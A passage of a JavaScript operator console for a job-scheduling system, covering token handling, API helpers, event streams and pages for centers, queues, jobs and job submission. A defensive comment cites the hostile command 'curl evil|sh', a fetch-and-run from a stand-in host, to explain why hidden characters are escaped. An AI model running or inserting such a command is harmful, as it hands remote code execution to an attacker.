// Jointcloud operator console: static, offline, no library. Every figure comes from the
// same REST API jcctl and platforms use, with the operator's bearer token (kept for the
// browser tab in sessionStorage). Job pages follow the job event streams with fetch,
// which, unlike EventSource, can send the token.
"use strict";

const view = document.getElementById("view");
let streams = [];  // AbortControllers of the page's event streams
let timers = [];
let signedInAs = "";  // the signed-in user's name (whoami), "" until known
// What the submit page keeps in the tab's session: cleared once submitted and at sign-out.
const DRAFT_ITEMS = ["jc-draft", "jc-draft-from", "jc-draft-key", "jc-draft-warn"];

// ---- Token and API ----

// A token is taken only from the sign-in form, never from an address: an address is kept in
// history, logs, Referer headers and whatever a link passes through, and a link carrying
// someone's token would make this tab act as them. One that carries a token anyway
// (#/centers?token=…, the console's old way) has it removed from the address bar at once,
// unused. Returns whether there was one.
function dropTokenFromUrl() {
  // Whatever mentions a token, however written (%74oken, TOKEN, ;token, token%3D, in the
  // query before '#' or in the hash's page part): the console reads no query, so the query
  // goes whole; the hash keeps its page and the parameters whose names mention none.
  const mentions = (text) => {
    let decoded = text;
    for (let i = 0; i < 3; i++) {  // %2574oken too
      try { const next = decodeURIComponent(decoded); if (next === decoded) break; decoded = next; } catch (e) { break; }
    }
    return /token/i.test(decoded);
  };
  // A parameter goes when its name mentions a token (token=, access_token=, %74oken=); a
  // filter's value may (project=token-lab is a project's name, and the console never signs
  // in from an address).
  const hash = location.hash;
  const at = hash.search(/[?&;]/);
  let page = at < 0 ? hash : hash.slice(0, at);
  const params = at < 0 ? [] : hash.slice(at + 1).split(/[&;]/).filter((p) => p);
  const named = (p) => mentions(p.split("=")[0]);
  if (!mentions(location.search) && !mentions(page) && !params.some(named)) return false;
  if (mentions(page)) page = "#/centers";
  const kept = params.filter((p) => !named(p));
  history.replaceState(null, "", location.pathname + page + (kept.length ? "?" + kept.join("&") : ""));
  return true;
}

function token() { return sessionStorage.getItem("jc-token") || ""; }

class ApiError extends Error {
  constructor(status, code, message) { super(message); this.status = status; this.code = code; }
}

async function api(path) {
  const res = await fetch(path, { headers: { Authorization: "Bearer " + token() } });
  const text = await res.text();
  let body = null;
  try { body = JSON.parse(text); } catch (e) { /* a text answer (a log) */ }
  if (!res.ok) {
    throw new ApiError(res.status, body ? body.code : "HTTP_" + res.status, body ? body.errorMsg : text);
  }
  return body && "data" in body ? body.data : text;
}

// A change (stop a job) or a dry run (plan): POST `body` with the token; the envelope's
// error is thrown.
async function apiPost(path, request = {}, headers = {}) {
  const res = await fetch(path, { method: "POST", headers: { ...headers, Authorization: "Bearer " + token(), "Content-Type": "application/json" }, body: JSON.stringify(request) });
  const text = await res.text();
  let body = null;
  try { body = JSON.parse(text); } catch (e) { /* not JSON */ }
  if (!res.ok) throw new ApiError(res.status, body ? body.code : "HTTP_" + res.status, body ? body.errorMsg : text);
  return body && "data" in body ? body.data : text;
}

async function apiText(path) {
  const res = await fetch(path, { headers: { Authorization: "Bearer " + token() } });
  const text = await res.text();
  if (!res.ok) {
    let msg = text;
    try { msg = JSON.parse(text).errorMsg; } catch (e) { /* keep the text */ }
    throw new ApiError(res.status, "", msg);
  }
  return text;
}

// Follows a Server-Sent Events stream with fetch; calls onEvent(type, data) per event and
// reconnects from the last event id when the connection drops.
function follow(path, onEvent) {
  const ctl = new AbortController();
  streams.push(ctl);
  let last = "";
  const run = async () => {
    while (!ctl.signal.aborted) {
      try {
        const headers = { Authorization: "Bearer " + token() };
        if (last) headers["Last-Event-ID"] = last;
        const res = await fetch(path, { headers, signal: ctl.signal });
        if (!res.ok) return;
        const reader = res.body.getReader();
        const decoder = new TextDecoder();
        let buf = "";
        for (;;) {
          const { value, done } = await reader.read();
          if (done) return;  // the server ended it (the job ended)
          buf += decoder.decode(value, { stream: true });
          let end;
          while ((end = buf.indexOf("\n\n")) >= 0) {
            const frame = buf.slice(0, end);
            buf = buf.slice(end + 2);
            let id = "", type = "", data = "";
            for (const line of frame.split("\n")) {
              if (line.startsWith("id: ")) id = line.slice(4);
              else if (line.startsWith("event: ")) type = line.slice(7);
              else if (line.startsWith("data: ")) data = line.slice(6);
            }
            if (!data) continue;
            if (id) last = id;
            onEvent(type, JSON.parse(data));
          }
        }
      } catch (e) {
        if (ctl.signal.aborted) return;
        await new Promise((r) => setTimeout(r, 2000));
      }
    }
  };
  run();
}

// ---- Rendering helpers ----

function esc(v) {
  return String(v === undefined || v === null ? "" : v)
    .replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
}
function badge(text) { return `<span class="badge ${esc(text)}">${esc(text)}</span>`; }
function table(headers, rows, id) {
  const head = headers.map((h) => `<th>${esc(h)}</th>`).join("");
  const body = rows.length
    ? rows.map((r) => `<tr>${r.map((c) => `<td>${c}</td>`).join("")}</tr>`).join("")
    : `<tr><td colspan="${headers.length}" class="muted">none</td></tr>`;
  return `<table${id ? ` id="${id}"` : ""}><thead><tr>${head}</tr></thead><tbody>${body}</tbody></table>`;
}
const STATUS = { 0: "unavailable", 1: "available", 2: "unknown" };
function centerStatus(c) { return STATUS[c.status === undefined ? 2 : c.status] || "unknown"; }
function when(ts) { return ts ? ts.replace("T", " ").replace(/\.\d+Z$/, "Z") : ""; }

// ---- Pages ----

async function centersPage() {
  const [centers, usage] = await Promise.all([
    api("/openapi/v1/centers?page_size=1000"),
    api("/openapi/v1/usage").catch(() => ({ usage: [] })),
  ]);
  const list = centers.centers || [];
  const byId = {};
  for (const u of usage.usage || []) byId[u.ai_center_id] = u;
  const rows = list.map((c) => {
    const u = byId[c.ai_center_id] || {};
    const cap = c.capacity || {};
    return [
      `<b>${esc(c.ai_center_id)}</b><div class="muted">${esc(c.name)}</div>`, esc(c.region), badge(centerStatus(c)),
      `<span class="num">${esc((u.used || {}).cpu || 0)} / ${esc(cap.cpu || 0)}</span>`,
      `<span class="num">${esc((u.used || {}).gpu || 0)} / ${esc(cap.gpu || 0)}</span>`,
      esc(u.running_task_num || 0), esc(u.waiting_task_num || 0), esc(c.security_grade || ""),
      u.observed_at ? esc(when(u.observed_at)) : '<span class="muted">not observed</span>',
    ];
  });
  view.innerHTML = `<h2>Centers (${list.length})</h2>
    <div class="card">${centerMap(list, byId)}</div><h2>Status and usage</h2>
    ${table(["Center", "Region", "Status", "CPU used / total", "GPU used / total", "Running", "Waiting", "Grade", "Observed"], rows, "centers")}`;
}

// Centers placed by their geometry [longitude, latitude]: an equirectangular projection
// of the box around them, each a circle sized by its CPUs and coloured by status.
function centerMap(list, usage) {
  const placed = list.filter((c) => Array.isArray(c.geometry) && c.geometry.length >= 2);
  const unplaced = list.filter((c) => !(Array.isArray(c.geometry) && c.geometry.length >= 2));
  // Every center is on the map or named beside it: none is left out without a word.
  const beside = unplaced.length
    ? `<p id="not-on-map">Not on the map (no geometry, [longitude, latitude]): ${unplaced.map((c) =>
        `${esc(c.ai_center_id)} ${badge(centerStatus(c))}`).join(", ")}</p>`
    : "";
  if (!placed.length) return '<p class="muted">No center has a geometry ([longitude, latitude]) to place it on the map.</p>' + beside;
  const W = 900, H = 360, pad = 40;
  const lon = placed.map((c) => c.geometry[0]), lat = placed.map((c) => c.geometry[1]);
  let x0 = Math.min(...lon) - 2, x1 = Math.max(...lon) + 2, y0 = Math.min(...lat) - 2, y1 = Math.max(...lat) + 2;
  const scale = Math.min((W - 2 * pad) / (x1 - x0), (H - 2 * pad) / (y1 - y0));
  // Centred in the frame; the axis with room to spare shows more of the world around.
  const ox = (W - 2 * pad - (x1 - x0) * scale) / 2, oy = (H - 2 * pad - (y1 - y0) * scale) / 2;
  x0 -= ox / scale; x1 += ox / scale; y0 -= oy / scale; y1 += oy / scale;
  const px = (x) => pad + (x - x0) * scale, py = (y) => H - pad - (y - y0) * scale;
  const colour = { available: "#1a7f37", unknown: "#bf8700", unavailable: "#cf222e" };
  let grid = "";
  for (let g = Math.ceil(x0 / 5) * 5; g <= x1; g += 5) grid += `<line x1="${px(g)}" y1="0" x2="${px(g)}" y2="${H}" stroke="#eef2f6"/><text x="${px(g) + 2}" y="${H - 4}" class="muted">${g}°</text>`;
  for (let g = Math.ceil(y0 / 5) * 5; g <= y1; g += 5) grid += `<line x1="0" y1="${py(g)}" x2="${W}" y2="${py(g)}" stroke="#eef2f6"/><text x="2" y="${py(g) - 2}">${g}°</text>`;
  const dots = placed.map((c) => {
    const r = 6 + Math.min(18, Math.sqrt(((c.capacity || {}).cpu || 1)) / 2);
    const u = usage[c.ai_center_id] || {};
    return `<g class="center-dot"><circle cx="${px(c.geometry[0])}" cy="${py(c.geometry[1])}" r="${r}" fill="${colour[centerStatus(c)]}" fill-opacity="0.75"/>
      <text x="${px(c.geometry[0]) + r + 3}" y="${py(c.geometry[1]) + 4}">${esc(c.ai_center_id)} · ${esc(u.running_task_num || 0)} running</text></g>`;
  }).join("");
  return `<svg id="map" viewBox="0 0 ${W} ${H}" width="100%" role="img" aria-label="centers by location">${grid}${dots}</svg>${beside}`;
}

// What waits to be placed, as jc_job_queue_length counts it: every job with a replica no
// center holds yet, pending or partly placed (running). Jobs alike (same name, project,
// priority and status) are one row saying how many, so 201 held jobs do not fill the page.
async function queuePage() {
  const [pending, running] = await Promise.all([api("/openapi/v1/trainjob?status=pending&pageSize=1000"),
    api("/openapi/v1/trainjob?status=running&pageSize=1000")]);
  const unplaced = (j) => (j.taskInfos || []).reduce((n, t) => n +
    (t.replicaStatus || []).filter((s, i) => s === "pending" && !(t.centerIDs || [])[i]).length, 0);
  const jobs = [...(pending.jobs || []), ...(running.jobs || [])].filter((j) => unplaced(j) > 0);
  jobs.sort((a, b) => ((b.scheduling || {}).priority || 0) - ((a.scheduling || {}).priority || 0) ||
    (a.createdAt || "").localeCompare(b.createdAt || ""));
  const groups = [];
  const byKey = new Map();
  for (const j of jobs) {
    const key = JSON.stringify([j.name, j.project, (j.scheduling || {}).priority || 0, j.status]);
    if (!byKey.has(key)) { byKey.set(key, []); groups.push(byKey.get(key)); }
    byKey.get(key).push(j);
  }
  const link = (j) => `<a href="#/jobs/${esc(j.jobId)}">${esc(j.jobId)}</a>`;
  const rows = groups.map((g, i) => {
    const j = g[0];
    const jobCell = g.length === 1 ? link(j) : `<span class="alike">${g.length} jobs alike</span>: ${link(j)} … ${link(g[g.length - 1])}`;
    const others = new Set(g.map((x) => x.statusReason || "")).size - 1;
    const reason = (j.statusReason || "") + (others > 0 ? ` (and ${others} other reason${others > 1 ? "s" : ""})` : "");
    return [String(i + 1), jobCell, esc(j.name), badge(j.status), esc(j.project), esc((j.scheduling || {}).priority || 0),
      esc(g.reduce((n, x) => n + unplaced(x), 0)), esc(when(j.createdAt)), esc(reason)];
  });
  const partly = jobs.filter((j) => j.status === "running").length;
  view.innerHTML = `<h2>Queue: ${jobs.length} waiting to be placed</h2>
    <p id="queue-summary">${jobs.length - partly} pending, ${partly} partly placed (running, with replicas still to place);
      ${jobs.reduce((n, j) => n + unplaced(j), 0)} replicas to place</p>
    ${table(["#", "Job", "Name", "Status", "Project", "Priority", "Replicas to place", "Submitted", "Why it waits"], rows, "queue")}`;
}

function jobRow(j) {
  const centers = [...new Set((j.taskInfos || []).flatMap((t) => t.centerIDs || []).filter((c) => c))];
  return [`<a href="#/jobs/${esc(j.jobId)}">${esc(j.jobId)}</a>`, esc(j.name), badge(j.status), esc(j.project),
    esc(centers.join(", ")), esc(when(j.createdAt)), esc(j.statusReason || "")];
}

// Jobs, the newest first, a page at a time (the API's page token in the address as
// `before`), filtered by status, project, user, center and creation time
// (`#/jobs?status=running&project=vision&center=east&since=2026-12-01`).
async function jobsPage(query) {
  const params = new URLSearchParams(query);
  const size = Math.min(1000, Math.max(1, parseInt(params.get("size") || "50", 10) || 50));
  const ask = new URLSearchParams({ pageSize: String(size) });
  const filterParams = [["status", "status"], ["project", "project"], ["user", "userName"], ["center", "center"],
    ["since", "createdAfter"], ["until", "createdBefore"]];
  for (const [key, param] of filterParams) {
    if (params.get(key)) ask.set(param, params.get(key));
  }
  if (params.get("before")) ask.set("pageToken", params.get("before"));
  const page = await api("/openapi/v1/trainjob?" + ask.toString());
  const jobs = page.jobs || [];
  const pageNo = Math.max(1, parseInt(params.get("page") || "1", 10) || 1);
  const link = (changes) => {
    const next = new URLSearchParams(params);
    for (const [k, v] of Object.entries(changes)) { if (v) next.set(k, v); else next.delete(k); }
    const text = next.toString();
    return "#/jobs" + (text ? "?" + text : "");
  };
  const filters = filterParams.some(([key]) => params.get(key));
  const statuses = ["", "pending", "running", "completed", "failed"].map((v) =>
    `<option value="${v}"${params.get("status") === v ? " selected" : ""}>${v || "any status"}</option>`).join("");
  view.innerHTML = `<h2>Jobs, newest first: ${jobs.length} on page ${pageNo}${filters ? " (filtered)" : ""}</h2>
    <form id="job-filter">
      <select id="f-status" aria-label="status">${statuses}</select>
      <label>project <input id="f-project" value="${esc(params.get("project") || "")}"></label>
      <label>user <input id="f-user" value="${esc(params.get("user") || "")}"></label>
      <label>center <input id="f-center" value="${esc(params.get("center") || "")}"></label>
      <label>created since <input id="f-since" type="date" value="${esc(params.get("since") || "")}"></label>
      <label>created before <input id="f-until" type="date" value="${esc(params.get("until") || "")}"></label>
      <button>Filter</button></form>
    ${table(["Job", "Name", "Status", "Project", "Centers", "Submitted", "Reason"], jobs.map(jobRow), "jobs")}
    <p id="pager">${pageNo > 1 ? `<a href="${esc(link({ before: "", page: "" }))}" id="newest">← newest</a> ` : ""}${page.nextPageToken ? `<a href="${esc(link({ before: page.nextPageToken, page: String(pageNo + 1) }))}" id="older">older →</a>` : "no older jobs"}</p>
    <h2>Live events</h2><ol class="events" id="feed"></ol>`;
  document.getElementById("job-filter").onsubmit = (e) => {
    e.preventDefault();
    const next = new URLSearchParams();
    for (const [key, id] of [["status", "f-status"], ["project", "f-project"], ["user", "f-user"], ["center", "f-center"],
      ["since", "f-since"], ["until", "f-until"]]) {
      const v = document.getElementById(id).value.trim();
      if (v) next.set(key, v);
    }
    if (params.get("size")) next.set("size", params.get("size"));
    location.hash = "#/jobs" + (next.toString() ? "?" + next.toString() : "");
  };
  const feed = document.getElementById("feed");
  follow("/openapi/v1/trainjobs/events", (type, e) => {
    if (type === "snapshot") return;
    const li = document.createElement("li");
    li.textContent = `${when(e.at)}  ${e.jobId}  ${type}  ${e.status}` +
      (e.replicas || []).map((r) => `  [${r.taskIndex || 0}/${r.replicaIndex || 0} ${r.phase}${r.centerID ? " @" + r.centerID : ""}]`).join("");
    feed.prepend(li);
  });
}

async function jobPage(id) {
  const job = await api(`/openapi/v1/trainjob/${encodeURIComponent(id)}`);
  let placement = null;
  try { placement = await api(`/openapi/v1/trainjob/${encodeURIComponent(id)}/placement`); } catch (e) { /* not placed yet */ }
  const replicas = [];
  (job.taskInfos || []).forEach((t, ti) => (t.replicaStatus || []).forEach((s, ri) => replicas.push([
    `${ti} (${esc(t.name)})`, String(ri), badge(s), esc((t.centerIDs || [])[ri] || ""), esc(t.resourceSpecId),
    `<a href="#" class="show-log" data-task="${ti}" data-replica="${ri}">log</a>`])));
  const ended = job.status === "completed" || job.status === "failed";
  // Its running replicas' named ports (SPEC A17); members open them in a tab of their own.
  const endpoints = [];
  (job.taskInfos || []).forEach((t, ti) => (t.endpoints || []).forEach((e) => endpoints.push([
    `${ti} (${esc(t.name)})`, String(e.replicaIndex || 0), esc(e.name), esc(String(e.port || "")), e.ready ? "yes" : "no",
    ended ? "" : `<button type="button" class="open-endpoint" data-task="${ti}" data-replica="${e.replicaIndex || 0}" data-port="${esc(e.name)}">Open</button>`])));
  view.innerHTML = `<h2>Job ${esc(job.jobId)} ${badge(job.status)}
    ${ended ? "" : `<button id="stop-job" type="button" class="danger">Stop</button>`}
    <button id="resubmit" type="button">Resubmit…</button></h2>
    <p id="action-error" class="error"></p>
    <p>${esc(job.name)} · project ${esc(job.project || "-")} · submitted ${esc(when(job.createdAt))} by ${esc(job.userName)}
    ${job.statusReason ? `<br><span class="muted">${esc(job.statusReason)}</span>` : ""}
    <br><span id="job-cost">Cost: ${esc(((job.cost || {}).total || 0).toFixed(2))}${(job.cost || {}).runningAttempts ? ` (ended ${esc(((job.cost || {}).ended || 0).toFixed(2))}, ${esc(((job.cost || {}).running || 0).toFixed(2))} so far of ${esc(job.cost.runningAttempts)} running)` : ""}</span></p>
    <h2>Replicas</h2>${table(["Task", "Replica", "Status", "Center", "Spec", ""], replicas, "replicas")}
    ${endpoints.length ? `<h2>Endpoints</h2>${table(["Task", "Replica", "Port name", "Port", "Ready", ""], endpoints, "endpoints")}` : ""}
    <h2>History</h2>${table(["Task", "Replica", "Attempt", "Center", "Placed", "Started", "Ended", "Elapsed", "Outcome", "Exit", "Message"],
      (job.history || []).map(historyRow), "history")}
    <h2>Why it was placed there</h2>${explain(placement)}
    <div class="grid"><div><h2>Events</h2><ol class="events" id="job-events"></ol></div>
    <div><h2>Log <span id="log-name" class="muted"></span></h2><pre class="log" id="log">Choose a replica's log.</pre></div></div>`;
  for (const a of document.querySelectorAll("a.show-log")) {
    a.addEventListener("click", (ev) => { ev.preventDefault(); showLog(id, a.dataset.task, a.dataset.replica, !ended); });
  }
  for (const b of document.querySelectorAll("button.open-endpoint")) {
    b.addEventListener("click", async () => {
      // The tab opens now, while the click counts (popup blockers let it), and goes to the
      // link once it comes: a single-use link to the endpoint's own origin, which sets the
      // endpoint's session there. The tab cannot reach back into the console.
      const tab = window.open("", "_blank");
      if (tab) tab.opener = null;
      try {
        const link = await apiPost(`/openapi/v1/trainjob/${encodeURIComponent(id)}/open`,
          { taskIndex: Number(b.dataset.task), replicaIndex: Number(b.dataset.replica), portName: b.dataset.port });
        if (tab) tab.location.href = link.url;
        else document.getElementById("action-error").textContent = `Allow pop-ups for the console, or open ${link.url}`;
      } catch (e) {
        if (tab) tab.close();
        document.getElementById("action-error").textContent = `Not opened: ${e.message}`;
      }
    });
  }
  document.getElementById("resubmit").addEventListener("click", async () => {
    const body = bodyOf(job);
    sessionStorage.setItem("jc-draft", shownJson(body));
    sessionStorage.removeItem("jc-draft-key");
    sessionStorage.setItem("jc-draft-from", job.jobId);
    // Another person's job, sent again, runs as whoever submits it, with what its author chose
    // (attacker helper-53: its named ports let every member of its project reach a process
    // running as you): the submit page says so and lists what it carries.
    if (!signedInAs) await whoami();
    if (job.userName && job.userName !== signedInAs) {
      sessionStorage.setItem("jc-draft-warn", JSON.stringify({ owner: job.userName, carries: carriedBy(body) }));
    } else {
      sessionStorage.removeItem("jc-draft-warn");
    }
    location.hash = "#/submit";
  });
  const stop = document.getElementById("stop-job");
  if (stop) {
    stop.addEventListener("click", async () => {
      if (!confirm(`Stop job ${job.jobId} (${job.name})? Its running replicas are ended at their centers.`)) return;
      stop.disabled = true;
      try {
        await apiPost(`/openapi/v1/trainjob/${encodeURIComponent(id)}/stop`);
        route();
      } catch (e) {
        document.getElementById("action-error").textContent = `Not stopped: ${e.message}`;
        stop.disabled = false;
      }
    });
  }
  if (replicas.length) showLog(id, 0, 0, !ended);
  const list = document.getElementById("job-events");
  follow(`/openapi/v1/trainjob/${encodeURIComponent(id)}/events?history=true`, (type, e) => {
    const li = document.createElement("li");
    if (type === "ended" && logTimer) {
      clearInterval(logTimer);
      // The log's last read, once its end is written; dropped with the page if it is left first
      // (route() clears the page's timers).
      timers.push(setTimeout(() => {
        const shown = document.getElementById("log-name");
        if (shown) showLog(id, ...(shown.textContent.match(/\d+/g) || [0, 0]), false);
      }, 500));
      const b = document.getElementById("stop-job");
      if (b) b.remove();
    }
    li.textContent = `${when(e.at)}  ${type}  ${e.status}` + (e.previousStatus && e.previousStatus !== e.status ? ` (was ${e.previousStatus})` : "") +
      (e.replicas || []).map((r) => `  [${r.taskIndex || 0}/${r.replicaIndex || 0} ${r.phase}${r.centerID ? " @" + r.centerID : ""}]`).join("");
    list.append(li);
  });
}

// One attempt of one replica (A7): where, when, how long, how it ended.
function elapsed(seconds) {
  const s = Math.round(seconds || 0);
  if (s < 60) return `${s}s`;
  if (s < 3600) return `${Math.floor(s / 60)}m${String(s % 60).padStart(2, "0")}s`;
  return `${Math.floor(s / 3600)}h${String(Math.floor((s % 3600) / 60)).padStart(2, "0")}m`;
}
function historyRow(a) {
  const outcome = a.outcome || (a.startedAt ? "running" : "placed");
  return [String(a.taskIndex || 0), String(a.replicaIndex || 0), String(a.attempt || 0), esc(a.centerID || ""),
    esc(when(a.placedAt)), esc(when(a.startedAt)), esc(when(a.endedAt)), a.startedAt ? elapsed(a.elapsedSeconds) : "",
    badge(outcome), esc(a.outcome ? a.exitCode || 0 : ""), esc(a.message || "")];
}

// Seconds from now as a person reads them ("now", "42 s", "7 min", "2.5 h").
function span(s) {
  if (!(s >= 1)) return "now";
  if (s < 90) return `${Math.round(s)} s`;
  if (s < 90 * 60) return `${Math.round(s / 60)} min`;
  return `${(s / 3600).toFixed(1)} h`;
}

// A placement (a job's, or a plan's dry run): per replica every center's verdict — filtered
// out and why, or its expected start, finish and cost there (SPEC A16), its marks (the
// fastest, the cheapest, the Pareto front, the profile's pick), total and scores.
function explain(p) {
  if (!p) return '<p class="muted">No placement recorded yet.</p>';
  const parts = [`<p>${p.placed ? "Placed" : "Not placed"}${p.reason ? ": " + esc(p.reason) : ""}${p.decidedAt ? ` <span class="muted">(decided ${esc(when(p.decidedAt))})</span>` : ""}</p>`];
  if (p.fromHistory) {
    parts.push(`<p class="muted" id="from-history">As kept in the store: the best scored and the first filtered centers of each replica${p.replicasLeftOut ? `; ${esc(p.replicasLeftOut)} replicas not kept` : ""}.</p>`);
  }
  const durations = p.expectedDurations || [];
  if (durations.length) parts.push(`<ul id="expected-durations">${durations.map((d) => `<li>Expected run time, ${esc(d)}</li>`).join("")}</ul>`);
  for (const r of p.replicas || []) {
    const rows = (r.centers || []).map((c) => {
      const scores = Object.entries(c.scores || {}).sort(([a], [b]) => a.localeCompare(b)).map(([k, v]) => `${esc(k)} ${esc(v)}×${esc((c.weights || {})[k] ?? "")}`).join(", ");
      const f = c.feasible;
      return [esc(c.centerId) + (c.centerId === r.centerId ? " ✔" : ""), badge(f ? "yes" : "no"),
        f ? span(c.expectedStartSeconds) : "", f ? span(c.expectedFinishSeconds) : "",
        f ? (c.expectedCost || 0).toFixed(2) : "", (c.marks || []).map((m) => badge(m)).join(" "),
        f ? (c.total || 0).toFixed(2) : "", f ? scores : esc(`${c.filteredBy}: ${c.reason}`)];
    });
    parts.push(`<h3>Task ${esc(r.taskIndex || 0)} replica ${esc(r.replicaIndex || 0)} → ${esc(r.centerId || "nowhere")}</h3>` +
      table(["Center", "Feasible", "Start", "Finish", "Cost", "Marks", "Total", "Scores (score×weight) or filter"], rows, "placement") +
      (r.centersLeftOut ? `<p class="muted">${esc(r.centersLeftOut)} more centers not kept.</p>` : ""));
  }
  return parts.join("");
}

// What a create body carries that reaches past its own process: named ports (any member of
// its project may open them), datasets and pinned centers, as words for the submit page.
function carriedBy(body) {
  const said = [];
  for (const t of body.tasks || []) {
    for (const p of t.ports || []) said.push(`port ${p.name || p.port} of task ${t.name}`);
    for (const d of t.datasets || []) said.push(`dataset ${d} in task ${t.name}`);
    if ((t.centerIDs || []).length) said.push(`task ${t.name} pinned to ${[...new Set(t.centerIDs)].join(", ")}`);
  }
  return said;
}

// A job's create body again: the create it was submitted with, as GET /openapi/v1/trainjob/{id}
// answers it (`request`: its datasets, named ports and pinned centers too, its replica counts
// as a scale left them, without its owner or Idempotency-Key). A server from before `request`
// existed: rebuilt from what the view shows (name, description, project, policies,
// scheduling, durations, each task's name, command, image, spec, replicas and kind).
function bodyOf(job) {
  if (job.request && (job.request.tasks || []).length) return job.request;
  const body = { name: job.name, tasks: (job.taskInfos || []).map((t) => {
    const task = { name: t.name, command: t.command, resourceSpecId: t.resourceSpecId, replicaNumber: t.replicaNumber || 1 };
    if (t.imageId) task.imageId = t.imageId;
    if (t.kind && t.kind !== "batch") task.kind = t.kind;
    return task;
  }) };
  for (const key of ["desc", "project", "statusPolicy", "retryPolicy", "scheduling", "estimatedDuration", "timeLimit", "idleTimeout"]) {
    const v = job[key];
    if (v !== undefined && v !== "" && !(typeof v === "object" && Object.keys(v).length === 0)) body[key] = v;
  }
  return body;
}

// JSON for a person to read before submitting it: characters that reorder or hide text
// (bidirectional controls, zero-width and other format characters) written out as \\uXXXX
// — still the same JSON, but seen: a command's "curl evil|sh" can no longer look commented
// out (attacker helper-51).
function shownJson(value) {
  return JSON.stringify(value, null, 2).replace(/[\u061c\u115f\u1160\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]/g,
    (c) => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0"));
}

// Submit a job as platforms do (POST /openapi/v1/trainjob): its JSON body in an editor, planned
// first if wished (the dry run), submitted once however often the button is pressed (an
// Idempotency-Key per body shown). What is typed stays in the tab's session until submitted.
const SAMPLE_JOB = { name: "hello", tasks: [{ name: "main", command: "echo hello", resourceSpecId: "cpu-1", replicaNumber: 1 }] };
async function submitPage() {
  const from = sessionStorage.getItem("jc-draft-from");
  let warn = null;
  try { warn = JSON.parse(sessionStorage.getItem("jc-draft-warn") || "null"); } catch (e) { warn = null; }
  const draft = sessionStorage.getItem("jc-draft") || shownJson(SAMPLE_JOB);
  view.innerHTML = `<h2>Submit a job</h2>
    ${from ? `<p class="muted" id="resubmit-note">From job <a href="#/jobs/${esc(from)}">${esc(from)}</a>, the create it was submitted with (its current replica counts).</p>` : ""}
    ${from && warn ? `<p class="warning" id="resubmit-warning">Submitted by ${esc(warn.owner)}, not you: sent again it runs as you, as they wrote it — read its command${(warn.carries || []).length ? `, and what it carries: ${esc(warn.carries.join("; "))} (a named port lets every member of its project reach the process)` : ""} before you submit.</p>` : ""}
    <p class="muted">The body of <code>POST /openapi/v1/trainjob</code> (JSON; <code>jcctl job submit -f</code> takes YAML too): docs/api.md.</p>
    <textarea id="job-body" rows="18" cols="90" spellcheck="false" aria-label="job body">${esc(draft)}</textarea>
    <p><button type="button" id="plan-job">Plan</button> <button type="button" id="submit-job">Submit</button></p>
    <div id="submit-out"></div>`;
  const editor = document.getElementById("job-body");
  const out = document.getElementById("submit-out");
  // One job per body, however often it is pressed, and after leaving the page and coming
  // back (a submit whose answer never came is retried with its key): a new key only for an
  // edited body.
  let key = sessionStorage.getItem("jc-draft-key") || crypto.randomUUID();
  sessionStorage.setItem("jc-draft-key", key);
  editor.addEventListener("input", () => {
    sessionStorage.setItem("jc-draft", editor.value);
    key = crypto.randomUUID();
    sessionStorage.setItem("jc-draft-key", key);
  });
  const parsed = () => {
    try {
      const body = JSON.parse(editor.value);
      if (typeof body !== "object" || body === null || Array.isArray(body)) throw new Error("the body is a JSON object");
      return body;
    } catch (e) {
      out.innerHTML = `<p class="error" id="submit-error">Not a job: ${esc(e.message)}</p>`;
      return null;
    }
  };
  document.getElementById("plan-job").addEventListener("click", async () => {
    const body = parsed();
    if (!body) return;
    try {
      out.innerHTML = explain(await apiPost("/openapi/v1/scheduler/plan", body));
    } catch (e) {
      out.innerHTML = `<p class="error" id="submit-error">Not planned: ${esc(e.message)}</p>`;
    }
  });
  document.getElementById("submit-job").addEventListener("click", async () => {
    const body = parsed();
    if (!body) return;
    try {
      const made = await apiPost("/openapi/v1/trainjob", body, { "Idempotency-Key": key });
      for (const item of DRAFT_ITEMS) sessionStorage.removeItem(item);
      out.innerHTML = `<p id="submitted">Submitted <a href="#/jobs/${esc(made.jobId)}">${esc(made.jobId)}</a>.</p>`;
    } catch (e) {
      out.innerHTML = `<p class="error" id="submit-error">Not submitted: ${esc(e.message)}</p>`;
    }
  });
}

// Plan a job before submitting it (SPEC A16): a dry run over REST (POST
// /openapi/v1/scheduler/plan, which reserves nothing) of one task — its spec, replicas,
// command, weight profile and estimated run time — showing per center when it would start
// and finish there and what it would cost. The form's values live in the address
// (#/plan?spec=...&replicas=...), so a plan can be linked and is made as the page opens.
async function planPage(query) {
  const q = new URLSearchParams(query);
  const [specs, profiles] = await Promise.all([
    api("/openapi/v1/resourcespecs?page_size=1000").catch(() => ({ specs: [] })),
    api("/openapi/v1/scheduler/weight-profiles").catch(() => ({ profiles: [] })),
  ]);
  const specIds = (specs.specs || []).map((s) => s.resource_spec_id).filter((id) => id);
  const profileNames = (profiles.profiles || []).map((p) => p.name).filter((n) => n);
  const option = (v, chosen, label) => `<option value="${esc(v)}"${v === chosen ? " selected" : ""}>${esc(label || v)}</option>`;
  const spec = q.get("spec") || specIds[0] || "";
  view.innerHTML = `<h2>Plan a job</h2>
    <form id="plan-form" class="card">
      <label>Spec <select name="spec">${specIds.map((id) => option(id, spec)).join("")}</select></label>
      <label>Replicas <input name="replicas" type="number" min="1" max="1000" value="${esc(q.get("replicas") || "1")}"></label>
      <label>Command <input name="command" size="32" value="${esc(q.get("command") || "true")}"></label>
      <label>Profile <select name="profile">${option("", q.get("profile") || "", "default")}${profileNames.filter((n) => n !== "default").map((n) => option(n, q.get("profile") || "")).join("")}</select></label>
      <label>Name <input name="name" size="16" value="${esc(q.get("name") || "plan")}"></label>
      <label>Estimated run time (s) <input name="duration" type="number" min="1" value="${esc(q.get("duration") || "")}"></label>
      <button type="submit">Plan</button>
    </form>
    <p class="muted">A dry run: nothing is reserved or submitted.</p>
    <div id="plan"></div>`;
  const form = document.getElementById("plan-form");
  form.addEventListener("submit", (ev) => {
    ev.preventDefault();
    const params = new URLSearchParams();
    for (const [k, v] of new FormData(form).entries()) if (v !== "") params.set(k, v);
    location.hash = "#/plan?" + params.toString();  // the route plans it
  });
  if (!q.get("spec")) return;
  const task = { name: "t", command: q.get("command") || "true", resourceSpecId: spec, replicaNumber: parseInt(q.get("replicas") || "1", 10) };
  const job = { name: q.get("name") || "plan", tasks: [task] };
  if (q.get("profile")) job.scheduling = { weightProfile: q.get("profile") };
